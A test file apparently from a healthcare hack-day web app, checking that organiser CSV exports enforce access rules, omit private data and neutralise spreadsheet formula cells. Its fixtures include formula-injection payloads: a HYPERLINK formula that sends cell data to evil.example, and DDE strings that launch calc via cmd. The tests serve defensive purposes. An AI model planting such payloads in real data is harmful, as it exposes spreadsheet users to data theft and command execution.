/**
 * The organisers' CSV exports, called as loaders: who gets them (visitors log in, others 403,
 * organisers and admins 200), the exact bytes (BOM, CRLF, quoting, neutralised formula cells),
 * what never goes in (emails, funding interest, mentorship notes, unpublished scores), and
 * results only after publication.
 */
import { eq } from "drizzle-orm";
import type { LoaderFunctionArgs } from "@remix-run/node";
import { describe, expect, it } from "vitest";
import { loader as registrantsLoader } from "../../app/routes/exports.hack-days.$id.registrants[.csv]";
import { loader as resultsLoader } from "../../app/routes/exports.hack-days.$id.results[.csv]";
import { loader as problemsLoader } from "../../app/routes/exports.problems[.csv]";
import { loader as projectsLoader } from "../../app/routes/exports.projects[.csv]";
import { csvDate, csvDateTime } from "../../app/domain/csv";
import { getWriterDb } from "../../app/utils/db.server";
import { problemPath, projectPath } from "../../app/utils/paths";
import * as s from "../../db/schema";
import {
  createFunder,
  createFundingInterest,
  createGateItemStatus,
  createHackDay,
  createJudgingCriterion,
  createMentor,
  createMentorship,
  createProblem,
  createProject,
  createTag,
  createUser,
} from "../factories";
import { makeRequest, run } from "../request";
import { withFreshDatabase } from "../setup/fresh-database";

withFreshDatabase();

type Loader = (args: LoaderFunctionArgs) => Promise<Response>;

const ORIGIN = "http://localhost:3000";
const BOM = "\uFEFF";
const today = () => csvDate(new Date());

async function get(loader: Loader, path: string, params: Record<string, string> = {}, userId?: number) {
  const result = await run(async () => loader({ request: await makeRequest(path, { userId }), params, context: {} }));
  if (!(result instanceof Response)) throw new Error("Exports answer with a Response");
  return result;
}

/** The file as a spreadsheet would open it: bytes decoded as UTF-8, the BOM kept to check it. */
async function csvText(response: Response): Promise<string> {
  return new TextDecoder("utf-8", { ignoreBOM: true }).decode(await response.arrayBuffer());
}

// The factory turns two-step sign-in on for organisers and admins, as their roles require (0058).
const organiserUser = (name?: string) => createUser({ roles: ["organiser"], ...(name ? { name } : {}) });
const adminUser = () => createUser({ roles: ["admin"] });

describe("who may download exports", () => {
  it("sends visitors to log in, refuses other roles, and serves organisers and admins", async () => {
    const clinician = await createUser({ roles: ["clinician"] });
    const organiser = await organiserUser();
    const admin = await adminUser();
    for (const [loader, path] of [
      [problemsLoader, "/exports/problems.csv"],
      [projectsLoader, "/exports/projects.csv"],
    ] as const) {
      expect(await get(loader, path)).toRedirectTo(`/login?redirectTo=${encodeURIComponent(path)}`);
      expect(await get(loader, path, {}, clinician.id), path).toHaveStatus(403);
      const ok = await get(loader, path, {}, organiser.id);
      expect(ok, path).toHaveStatus(200);
      expect(ok.headers.get("Content-Type")).toBe("text/csv; charset=utf-8");
      expect(ok.headers.get("Cache-Control")).toBe("no-store");
      expect(await get(loader, path, {}, admin.id), path).toHaveStatus(200);
    }
  });

  it("sends an organiser without two-step sign-in to set it up first", async () => {
    const organiser = await createUser({ roles: ["organiser"], twoStep: false });
    // The two-step helper decides the exact address (and whether it brings them back here).
    expect(await get(problemsLoader, "/exports/problems.csv", {}, organiser.id)).toRedirectTo(
      /^\/settings\/two-step\?/,
    );
  });
});

describe("/exports/problems.csv", () => {
  it("writes every problem, hostile text neutralised and quoted, hidden ones marked", async () => {
    const author = await createUser({
      roles: ["clinician"],
      name: "Zoë Ørsted-Nguyễn",
      email: "zoe-private@example.test",
    });
    const posted = new Date("2026-03-14T09:30:00Z");
    const hostile = await createProblem({
      authorId: author.id,
      title: '=HYPERLINK("https://evil.example/?x="&A1,"Click")',
      summary: 'Nurses say "every night", often.\nSecond line.',
      careSetting: "acute",
      specialty: "cardiology",
      endorsementCount: 3,
      organisationCount: 2,
      createdAt: posted,
      lastActivityAt: new Date("2026-03-15T10:00:00Z"),
    });
    const tag = await createTag("@risk");
    await getWriterDb().insert(s.problemTags).values({ problemId: hostile.id, tagId: tag.id });
    const hidden = await createProblem({
      authorId: author.id,
      title: "+44 7700 900123 call me",
      summary: "-1 beds",
      hiddenAt: new Date("2026-03-16T12:00:00Z"),
      createdAt: posted,
      lastActivityAt: posted,
    });
    const organiser = await organiserUser();

    const response = await get(problemsLoader, "/exports/problems.csv", {}, organiser.id);
    expect(response.headers.get("Content-Disposition")).toBe(`attachment; filename="hackpath-problems-${today()}.csv"`);
    const text = await csvText(response);
    expect(text).toBe(
      BOM +
        "ID,Title,Address,Status,Care setting,Specialty,Tags,Summary,Posted by,Endorsements,Organisations endorsing,Comments,Projects,Merged into problem,Closed because,Hidden by a moderator,Posted on,Last activity\r\n" +
        `${hostile.id},"'=HYPERLINK(""https://evil.example/?x=""&A1,""Click"")",${ORIGIN}${problemPath(hostile)},Open,Acute,Cardiology,'@risk,"Nurses say ""every night"", often.\nSecond line.",Zoë Ørsted-Nguyễn,3,2,0,0,,,No,2026-03-14 09:30,2026-03-15 10:00\r\n` +
        `${hidden.id},'+44 7700 900123 call me,${ORIGIN}${problemPath(hidden)},Open,Community,Podiatry,,'-1 beds,Zoë Ørsted-Nguyễn,0,0,0,0,,,Yes,2026-03-14 09:30,2026-03-14 09:30\r\n`,
    );
    expect(text).not.toContain("zoe-private@example.test");
  });

  it("streams more rows than one batch, every one exactly once and in order", async () => {
    const author = await createUser({ roles: ["clinician"] });
    const rows = Array.from({ length: 1_203 }, (_, i) => ({
      authorId: author.id,
      title: `Problem number ${i}`,
      summary: "s",
      careSetting: "community" as const,
      specialty: "podiatry" as const,
    }));
    await getWriterDb().insert(s.problems).values(rows);
    const organiser = await organiserUser();
    const lines = (await csvText(await get(problemsLoader, "/exports/problems.csv", {}, organiser.id)))
      .split("\r\n")
      .filter(Boolean);
    expect(lines).toHaveLength(1 + 1_203);
    expect(lines.slice(1).map((l) => l.split(",")[1])).toEqual(rows.map((r) => r.title));
  });
});

describe("/exports/projects.csv", () => {
  it("writes each project's stage and next-gate progress and nothing private", async () => {
    const organiser = await organiserUser();
    const lead = await createUser({ roles: ["developer"], name: "Sam Whitfield", email: "sam-private@example.test" });
    const problem = await createProblem({ title: "Foot checks" });
    const when = new Date("2026-03-14T15:00:00Z");
    const yesterday = new Date(Math.floor(Date.now() / 86_400_000) * 86_400_000 - 86_400_000);
    const project = await createProject({
      name: "FootPath",
      tagline: "-2+3+cmd|' /C calc'!A0",
      leadId: lead.id,
      problemId: problem.id,
      careSetting: "primary_care",
      submittedAt: when,
      stageEnteredAt: when,
      lastActivityAt: yesterday,
    });
    await createGateItemStatus({ projectId: project.id, itemKey: "working_demo", status: "met", evidence: "EVIDENCE" });
    const funder = await createFunder();
    await createFundingInterest({ projectId: project.id, funderId: funder.id, amount: 64_321, note: "FUNDING-NOTE" });
    const mentor = await createMentor();
    const mentorship = await createMentorship({ projectId: project.id, mentorId: mentor.id });
    await getWriterDb()
      .insert(s.mentorshipNotes)
      .values({ mentorshipId: mentorship.id, authorId: mentor.id, sessionOn: "2026-04-02", body: "MENTORSHIP-NOTE" });
    const draft = await createProject({
      name: "Draft idea",
      leadId: lead.id,
      stage: "adopted",
      stageEnteredAt: when,
      lastActivityAt: new Date("2025-01-01T12:00:00Z"),
    });

    const text = await csvText(await get(projectsLoader, "/exports/projects.csv", {}, organiser.id));
    const [header, first, second, end] = text.split("\r\n");
    expect(header).toBe(
      BOM +
        "ID,Name,Address,Tagline,Stage,State,Archived because,Paused or archived: note,Next stage,Next gate: items done,Next gate: items,Next gate: progress,Next gate: required items open,Problem ID,Problem,Hack day,Care setting,Specialty,Lead,Team size,Active mentors,Published stories,Submitted on,In this stage since,Last activity,Stalled",
    );
    // A linked problem, a working demo and an active mentor: 3 of validation's 4 items.
    expect(first).toBe(
      `${project.id},FootPath,${ORIGIN}${projectPath(project)},'-2+3+cmd|' /C calc'!A0,Prototype,Active,,,Validation,3,4,3 of 4 items done,1,${problem.id},Foot checks,,Primary care,,Sam Whitfield,1,1,0,2026-03-14 15:00,2026-03-14 15:00,${csvDateTime(yesterday)},No`,
    );
    expect(second).toBe(
      `${draft.id},Draft idea,${ORIGIN}${projectPath(draft)},${draft.tagline},Adopted,Active,,,,,,End of the pipeline,,,,,,,Sam Whitfield,1,0,0,,2026-03-14 15:00,2025-01-01 12:00,Yes`,
    );
    expect(end).toBe("");
    for (const secret of ["FUNDING-NOTE", "64321", "64,321", "MENTORSHIP-NOTE", "EVIDENCE", "sam-private@example.test"])
      expect(text).not.toContain(secret);
  });
});

describe("/exports/projects.csv at scale", () => {
  it("writes every project once, in order, across batches", async () => {
    const lead = await createUser({ roles: ["developer"] });
    const made = await getWriterDb()
      .insert(s.projects)
      .values(Array.from({ length: 1_050 }, (_, i) => ({ name: `Project ${i}`, leadId: lead.id })))
      .returning({ id: s.projects.id });
    const organiser = await organiserUser();
    const lines = (await csvText(await get(projectsLoader, "/exports/projects.csv", {}, organiser.id)))
      .split("\r\n")
      .slice(1, -1);
    expect(lines.map((l) => Number(l.split(",")[0]))).toEqual(made.map((p) => p.id));
    expect(new Set(lines.map((l) => l.split(",")[11]))).toEqual(new Set(["0 of 4 items done"]));
  });
});

describe("/exports/hack-days/:id/registrants.csv", () => {
  async function hackDayWithRegistrants() {
    const organiser = await organiserUser("Tom Adeyemi");
    const hackDay = await createHackDay({ organiserId: organiser.id, name: "NHS Hack Day: Leeds", capacity: 1 });
    const first = await createUser({
      roles: ["developer", "clinician"],
      name: "=cmd|' /C calc'!A0",
      organisation: "@Trust, Leeds",
      email: "first-private@example.test",
    });
    const second = await createUser({ roles: ["mentor"], name: "Siân Llŷr", organisation: "Cardiff" });
    const third = await createUser({ roles: [], name: "Third Person", organisation: "" });
    const gone = await createUser({ roles: ["developer"], name: "Cancelled Person" });
    const at = (iso: string) => new Date(iso);
    await getWriterDb()
      .insert(s.hackDayParticipants)
      .values([
        { hackDayId: hackDay.id, userId: third.id, status: "waitlisted", createdAt: at("2026-03-03T09:00:00Z") },
        { hackDayId: hackDay.id, userId: first.id, status: "registered", createdAt: at("2026-03-01T09:00:00Z") },
        { hackDayId: hackDay.id, userId: second.id, status: "waitlisted", createdAt: at("2026-03-02T09:00:00Z") },
        { hackDayId: hackDay.id, userId: gone.id, status: "cancelled", createdAt: at("2026-03-01T08:00:00Z") },
      ]);
    await createProject({ name: "Team Night Owl", leadId: first.id, hackDayId: hackDay.id });
    return { organiser, hackDay };
  }

  it("lists places then the waiting list in order, with no email, for the hack day's organiser", async () => {
    const { organiser, hackDay } = await hackDayWithRegistrants();
    const path = `/exports/hack-days/${hackDay.id}/registrants.csv`;
    const response = await get(registrantsLoader, path, { id: String(hackDay.id) }, organiser.id);
    expect(response).toHaveStatus(200);
    expect(response.headers.get("Content-Disposition")).toBe(
      `attachment; filename="hackpath-nhs-hack-day-leeds-registrants-${today()}.csv"`,
    );
    const text = await csvText(response);
    expect(text).toBe(
      BOM +
        "Name,Organisation,Roles,Status,Waiting list place,Registered on,Team\r\n" +
        `'=cmd|' /C calc'!A0,"'@Trust, Leeds",Clinician; Developer,Registered,,2026-03-01 09:00,Team Night Owl\r\n` +
        "Siân Llŷr,Cardiff,Mentor,Waiting list,1,2026-03-02 09:00,\r\n" +
        "Third Person,,,Waiting list,2,2026-03-03 09:00,\r\n",
    );
    expect(text).not.toContain("@example.test");
  });

  it("keeps the waiting list's order across batches, people who joined in the same second by who came first", async () => {
    const organiser = await organiserUser();
    const hackDay = await createHackDay({ organiserId: organiser.id, name: "Big Day" });
    const users = await getWriterDb()
      .insert(s.users)
      .values(
        Array.from({ length: 1_300 }, (_, i) => ({
          email: `big-${i}@example.test`,
          name: `Person ${String(i).padStart(4, "0")}`,
          passwordHash: "x",
        })),
      )
      .returning({ id: s.users.id });
    // 700 with a place, then 600 waiting; every 250 joined in the same second.
    const second = (i: number) => new Date(Date.UTC(2026, 2, 1, 9, 0, Math.floor(i / 250)));
    await getWriterDb()
      .insert(s.hackDayParticipants)
      .values(
        users.map((u, i) => ({
          hackDayId: hackDay.id,
          userId: u.id,
          status: i < 700 ? ("registered" as const) : ("waitlisted" as const),
          createdAt: second(i),
        })),
      );
    const path = `/exports/hack-days/${hackDay.id}/registrants.csv`;
    const lines = (await csvText(await get(registrantsLoader, path, { id: String(hackDay.id) }, organiser.id)))
      .split("\r\n")
      .slice(1, -1);
    expect(lines).toHaveLength(1_300);
    expect(lines.map((l) => l.split(",")[0])).toEqual(users.map((_, i) => `Person ${String(i).padStart(4, "0")}`));
    expect(lines.map((l) => l.split(",")[4])).toEqual(users.map((_, i) => (i < 700 ? "" : String(i - 699))));
  });

  it("refuses other organisers and other roles, serves admins, and 404s for no such hack day", async () => {
    const { hackDay } = await hackDayWithRegistrants();
    const path = `/exports/hack-days/${hackDay.id}/registrants.csv`;
    const params = { id: String(hackDay.id) };
    expect(await get(registrantsLoader, path, params)).toRedirectTo(`/login?redirectTo=${encodeURIComponent(path)}`);
    const clinician = await createUser({ roles: ["clinician"] });
    expect(await get(registrantsLoader, path, params, clinician.id)).toHaveStatus(403);
    const other = await organiserUser();
    const refused = await get(registrantsLoader, path, params, other.id);
    expect(refused).toHaveStatus(403);
    expect(await refused.text()).toBe("Only this hack day's organiser, or an admin, can download its registrants.");
    expect(await get(registrantsLoader, path, params, (await adminUser()).id)).toHaveStatus(200);
    expect(
      await get(registrantsLoader, "/exports/hack-days/999999/registrants.csv", { id: "999999" }, other.id),
    ).toHaveStatus(404);
  });
});

describe("/exports/hack-days/:id/results.csv", () => {
  async function judgedHackDay() {
    const organiser = await organiserUser();
    const hackDay = await createHackDay({ organiserId: organiser.id, name: "Winter Hack Day", status: "judging" });
    const impact = await createJudgingCriterion({ hackDayId: hackDay.id, name: "Impact", weight: 2, position: 0 });
    const demo = await createJudgingCriterion({ hackDayId: hackDay.id, name: "=The demo", weight: 1, position: 1 });
    const [judgeA, judgeB] = await Promise.all([createUser({ roles: ["mentor"] }), createUser({ roles: ["mentor"] })]);
    await getWriterDb()
      .insert(s.judges)
      .values([
        { hackDayId: hackDay.id, userId: judgeA.id },
        { hackDayId: hackDay.id, userId: judgeB.id },
      ]);
    const submitted = (name: string, minutes: number) =>
      createProject({ name, hackDayId: hackDay.id, submittedAt: new Date(Date.UTC(2026, 2, 14, 15, minutes)) });
    const best = await submitted("FootPath", 0);
    const next = await submitted("Night Owl", 1);
    const unscored = await submitted("Late Entry", 2);
    const score = (judgeId: number, projectId: number, criterionId: number, value: number, comment = "") => ({
      hackDayId: hackDay.id,
      judgeId,
      projectId,
      criterionId,
      score: value,
      comment,
    });
    await getWriterDb()
      .insert(s.scores)
      .values([
        score(judgeA.id, best.id, impact.id, 5, "JUDGE-COMMENT"),
        score(judgeA.id, best.id, demo.id, 4),
        score(judgeB.id, best.id, impact.id, 4),
        score(judgeB.id, best.id, demo.id, 4),
        score(judgeA.id, next.id, impact.id, 3),
        score(judgeA.id, next.id, demo.id, 2),
      ]);
    await getWriterDb()
      .insert(s.awards)
      .values({ hackDayId: hackDay.id, projectId: best.id, name: "Best in show", position: 0 });
    return { organiser, hackDay, best, next, unscored };
  }

  it("answers 409 before the results are published, and 200 with the ranking after", async () => {
    const { organiser, hackDay, best, next, unscored } = await judgedHackDay();
    const path = `/exports/hack-days/${hackDay.id}/results.csv`;
    const params = { id: String(hackDay.id) };
    const early = await get(resultsLoader, path, params, organiser.id);
    expect(early).toHaveStatus(409);
    expect(await early.text()).toBe(
      "The results of this hack day are not published yet, so they cannot be downloaded.",
    );

    await getWriterDb()
      .update(s.hackDays)
      .set({ status: "results_published", resultsPublishedAt: new Date() })
      .where(eq(s.hackDays.id, hackDay.id));
    // Any organiser may take published results away: they are public by then.
    const other = await organiserUser();
    const response = await get(resultsLoader, path, params, other.id);
    expect(response).toHaveStatus(200);
    expect(response.headers.get("Content-Disposition")).toBe(
      `attachment; filename="hackpath-winter-hack-day-results-${today()}.csv"`,
    );
    const text = await csvText(response);
    // FootPath: impact (5+4)/2 = 4.5, demo 4; weighted (2×4.5 + 4)/3 = 4.33. Night Owl: (2×3 + 2)/3 = 2.67.
    expect(text).toBe(
      BOM +
        "Rank,Project,Address,Weighted mean (1 to 5),Judges,Impact (weight 2): mean,'=The demo (weight 1): mean,Awards\r\n" +
        `1,FootPath,${ORIGIN}${projectPath(best)},4.33,2,4.5,4,Best in show\r\n` +
        `2,Night Owl,${ORIGIN}${projectPath(next)},2.67,1,3,2,\r\n` +
        `Not scored,Late Entry,${ORIGIN}${projectPath(unscored)},,0,,,\r\n`,
    );
    expect(text).not.toContain("JUDGE-COMMENT");
  });

  it("refuses visitors and other roles before looking at the hack day", async () => {
    const { hackDay } = await judgedHackDay();
    const path = `/exports/hack-days/${hackDay.id}/results.csv`;
    const params = { id: String(hackDay.id) };
    expect(await get(resultsLoader, path, params)).toRedirectTo(`/login?redirectTo=${encodeURIComponent(path)}`);
    const developer = await createUser({ roles: ["developer"] });
    expect(await get(resultsLoader, path, params, developer.id)).toHaveStatus(403);
    expect(await get(resultsLoader, "/exports/hack-days/x/results.csv", { id: "x" }, developer.id)).toHaveStatus(403);
  });
});
